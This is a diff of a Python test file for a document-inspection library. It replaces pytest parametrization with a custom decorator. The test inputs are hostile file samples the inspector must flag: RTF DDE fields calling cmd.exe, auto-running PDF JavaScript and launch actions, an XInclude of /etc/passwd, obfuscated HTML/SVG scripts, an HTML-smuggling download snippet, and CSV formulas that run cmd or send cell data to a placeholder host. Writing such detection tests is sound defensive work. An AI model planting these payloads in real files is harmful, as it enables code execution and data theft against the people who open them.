@@ -5,13 +5,13 @@ import io
 import zlib
 
 import pikepdf
-import pytest
 
 from sluice_inspect import inspect_file
 from sluice_inspect.formats import epub
 from tests.inspection.facts import facts_of, flags_of
 from tests.inspection.formats.office_packages import package_of, parts_of
 from tests.inspection.formats.pdf_samples import pdf, stream, text
+from tests.rows import each_row
 
 PROGRAM = base64.b64encode(b"\x7fELF" + bytes(60)).decode()
 
@@ -20,7 +20,7 @@ def rtf(inner: str) -> bytes:
     return ("{\\rtf1\\ansi One line." + inner + "\\par}").encode("latin-1")
 
 
-@pytest.mark.parametrize(
+@each_row(
     "inner",
     [
         r"{\*\template http://a.example/t.dotm}",
@@ -38,7 +38,7 @@ def test_local_template_of_rich_text_is_none() -> None:
     assert flags_of(rtf(r"{\*\template C:\\Users\\a\\Normal.dotm}"), "a.rtf") == set()
 
 
-@pytest.mark.parametrize(
+@each_row(
     "field",
     [r"DDEAUTO c:\\windows\\cmd.exe x", r"{\b DD}{\i EAUTO} cmd", r" \u68?DE cmd", r"D\'44E cmd", "DD\r\nE cmd"],
 )
@@ -76,7 +76,7 @@ def test_plain_pdf_has_pages_and_no_flags() -> None:
     assert flags_of(one_page(), "a.pdf") == set()
 
 
-@pytest.mark.parametrize(
+@each_row(
     ("catalog", "flag"),
     [
         ("/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>", "script.pdf"),
@@ -102,9 +102,7 @@ def test_words_in_the_text_of_a_pdf_have_no_flag() -> None:
     assert flags_of(one_page("/Info<</Title(/JS /Launch /EF)>>"), "a.pdf") == set()
 
 
-@pytest.mark.parametrize(
-    ("name", "kind"), [("run.exe", "program"), ("a.js", "script"), ("a.txt", "document"), ("a.zip", "archive")]
-)
+@each_row(("name", "kind"), [("run.exe", "program"), ("a.js", "script"), ("a.txt", "document"), ("a.zip", "archive")])
 def test_attachments_of_a_pdf_have_kinds(name: str, kind: str) -> None:
     tree = "/Names<</EmbeddedFiles<</Names[(a) 100 0 R]>>>>"
     objects: dict[int, bytes | str] = {
@@ -138,7 +136,7 @@ def form_of(*packets: bytes) -> bytes:
     return one_page(f"/AcroForm<</Fields[]/XFA[{listed}]>>", {100 + at: each for at, each in enumerate(packets)})
 
 
-@pytest.mark.parametrize(
+@each_row(
     "packets",
     [
         [stream(FORM[:25]), stream(FORM[25:28], packed=True), stream(FORM[28:])],
@@ -161,7 +159,7 @@ def test_form_without_a_script_has_no_flag() -> None:
     assert flags_of(form_of(stream(form[:20]), stream(form[20:], packed=True)), "a.pdf") == set()
 
 
-@pytest.mark.parametrize(
+@each_row(
     ("action", "flags"),
     [
         ("/S/GoToR/F(//server/a.pdf)/D[0/Fit]", {"launch.pdf", "link.external"}),
@@ -178,7 +176,7 @@ def test_form_without_a_script_has_no_flag() -> None:
         ("/S/GoTo/D[10 0 R/Fit]/Next[102 0 R]", {"link.external"}),
     ],
 )
-@pytest.mark.parametrize(
+@each_row(
     "trigger", ["/OpenAction<<{}>>", "/OpenAction 100 0 R", "/AA<</WC<<{}>>>>", "/AA<</WC 100 0 R>>", "/AA 103 0 R"]
 )
 def test_action_that_starts_by_itself_has_the_flags_of_what_it_opens(
@@ -195,7 +193,7 @@ def test_action_that_starts_by_itself_has_the_flags_of_what_it_opens(
     assert flags_of(one_page(trigger.format(action), objects), "a.pdf") == flags
 
 
-@pytest.mark.parametrize(
+@each_row(
     ("action", "flags"),
     [
         ("/S/URI/URI(https://a.example/)", set()),
@@ -203,14 +201,14 @@ def test_action_that_starts_by_itself_has_the_flags_of_what_it_opens(
         ("/S/URI/URI(javascript:x\\(\\))", {"script.pdf"}),
     ],
 )
-@pytest.mark.parametrize("entry", ["/A<<{}>>", "/AA<</U<<{}>>>>"])
+@each_row("entry", ["/A<<{}>>", "/AA<</U<<{}>>>>"])
 def test_action_that_has_to_be_clicked_loads_nothing(action: str, flags: set[str], entry: str) -> None:
     note = "<</Type/Annot/Subtype/Link/Rect[0 0 9 9]" + entry.format(action) + ">>"
     assert flags_of(one_page("/X 100 0 R", {100: note}), "a.pdf") == flags
 
 
-@pytest.mark.parametrize("levels", [20, 60, 450])
-@pytest.mark.parametrize(("opens", "closes"), [("<</S/GoTo/D[0]/Next", ">>"), ("[", "]"), ("<</A[", "]>>")])
+@each_row("levels", [20, 60, 450])
+@each_row(("opens", "closes"), [("<</S/GoTo/D[0]/Next", ">>"), ("[", "]"), ("<</A[", "]>>")])
 def test_nested_action_of_a_pdf_has_a_flag(levels: int, opens: str, closes: str) -> None:
     levels = levels // len(closes.replace(">>", "]"))
     nested = opens * levels + "<</S/JavaScript/JS(x)>>" + closes * levels
@@ -224,7 +222,7 @@ def test_pdf_that_is_nested_more_deeply_than_its_reader_goes_has_all_flags_of_ac
     assert (report.flags, report.facts["flags_complete"]) == (("launch.pdf", "script.pdf"), False)
 
 
-@pytest.mark.parametrize("content", [stream(b"x"), stream(b"x", packed=True)])
+@each_row("content", [stream(b"x"), stream(b"x", packed=True)])
 def test_script_of_a_model_in_three_dimensions(content: bytes) -> None:
     objects: dict[int, bytes | str] = {100: stream(b"u3d", "/Type/3D/Subtype/U3D/OnInstantiate 101 0 R"), 101: content}
     assert flags_of(one_page("/X 100 0 R", objects), "a.pdf") == {"script.pdf"}
@@ -269,7 +267,7 @@ def test_size_of_a_drawing_if_it_states_one() -> None:
     assert "width" not in facts_of(svg("", 'width="100%" height="45"'), "a.svg")
 
 
-@pytest.mark.parametrize(
+@each_row(
     "inner",
     [
         "<script>x</script>",
@@ -291,7 +289,7 @@ def test_script_of_a_drawing_in_utf16() -> None:
     assert flags_of(svg("<script>x</script>").decode().encode("utf-16"), "a.svg") == {"script.svg"}
 
 
-@pytest.mark.parametrize("year", ["2001", "2003"])
+@each_row("year", ["2001", "2003"])
 def test_included_document(year: str) -> None:
     text_ = f'<a><x:include xmlns:x="http://www.w3.org/{year}/XInclude" href="/etc/passwd"/></a>'
     assert flags_of(text_.encode(), "a.xml") == {"xinclude"}
@@ -303,7 +301,7 @@ def test_xml_without_included_documents() -> None:
     assert flags_of(b'<?xml version="1.0" encoding="UTF-8"?><a on="1">include script</a>', "a.xml") == set()
 
 
-@pytest.mark.parametrize(
+@each_row(
     "inner",
     ["<script>x</script>", '<p onclick = "x()">a</p>', "<img src=x/onerror=x()>", '<a href=" javascript:x()">a</a>'],
 )
@@ -316,7 +314,7 @@ def test_web_page_without_a_script() -> None:
     assert flags_of(page, "a.html") == set()
 
 
-@pytest.mark.parametrize(
+@each_row(
     "inner",
     [
         "<a href='java&#x09;script:x()'>a</a>",
@@ -338,7 +336,7 @@ def test_script_of_a_web_page_is_found_however_it_is_written(inner: str) -> None
     assert flags_of(f"<html><body>a{inner}</body></html>".encode(), "a.html") == {"script.html"}
 
 
-@pytest.mark.parametrize(
+@each_row(
     "inner",
     [
         "<pre>&lt;script&gt; &lt;a href=&quot;javascript:x&quot;&gt; a&#61;&#34;javascript:x</pre>",
@@ -355,8 +353,8 @@ def book_with(page: bytes, name: str = "page.xhtml") -> bytes:
     return package_of(parts_of(epub.FORMAT.sample()) | {name: page})
 
 
-@pytest.mark.parametrize("name", ["page.xhtml", "other.xml", "picture"])
-@pytest.mark.parametrize(
+@each_row("name", ["page.xhtml", "other.xml", "picture"])
+@each_row(
     "page",
     [
         '<x:html xmlns:x="http://www.w3.org/1999/xhtml"><x:script>x</x:script></x:html>',
@@ -402,14 +400,14 @@ LOADED = [
 ]
 
 
-@pytest.mark.parametrize("inner", LOADED)
+@each_row("inner", LOADED)
 def test_page_that_loads_something_has_an_external_link(inner: str) -> None:
     page = f"<html><head></head><body>a{inner}</body></html>".encode()
     assert flags_of(page, "a.xhtml") == {"link.external"}
     assert flags_of(book_with(page), "a.epub") == {"link.external"}
 
 
-@pytest.mark.parametrize(
+@each_row(
     "inner",
     [
         "<a href='https://a.example/'>a</a>",
@@ -428,7 +426,7 @@ def test_page_that_links_only_loads_nothing(inner: str) -> None:
 XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
 
 
-@pytest.mark.parametrize(
+@each_row(
     "inner",
     [
         '<image href="http://a.example/a.png"/>',
@@ -465,7 +463,7 @@ def test_script_in_a_book() -> None:
     assert flags_of(package_of(parts_of(book) | {name: scripted}), "a.epub") == {"script.html"}
 
 
-@pytest.mark.parametrize(
+@each_row(
     "script",
     [
         "var b=new Blob([atob(d)]);a.href=URL.createObjectURL(b);a.download='x.iso';a.click()",
@@ -487,7 +485,7 @@ def test_one_half_of_smuggling_is_none() -> None:
 # Tables
 
 
-@pytest.mark.parametrize(
+@each_row(
     "cell",
     ['=HYPERLINK("http://a.example?x="&A1,"a")', "=SUM(A1:A9)", "+SUM(1)", "-2+CALL(1)", "@SUM(A1)", '"=EXEC(1)"',
      "\t=EXEC(1)",
@@ -498,12 +496,12 @@ def test_formula_of_a_table(cell: str) -> None:
     assert flags_of(f"id;name\r\n{cell};1\r\n".encode("utf-16"), "a.csv") == {"formula.csv"}
 
 
-@pytest.mark.parametrize("cell", ["=cmd|' /C calc'!A0", "+cmd|'/c calc'!A0", "@x|'y'!z", "-2+3+cmd|' /C calc'!D2"])
+@each_row("cell", ["=cmd|' /C calc'!A0", "+cmd|'/c calc'!A0", "@x|'y'!z", "-2+3+cmd|' /C calc'!D2"])
 def test_dde_formula_of_a_table(cell: str) -> None:
     assert flags_of(f"id,name\n1,{cell}\n".encode(), "a.csv") == {"formula.csv", "dde"}
 
 
-@pytest.mark.parametrize(
+@each_row(
     "cell",
     ["-5", "+49 (0)30 12345", "@name", "=", "- see the notes (below)", "a=f(x)", "-", "a@b.example (work)", "+1",
      "=A1+B2", "1|2!3"],
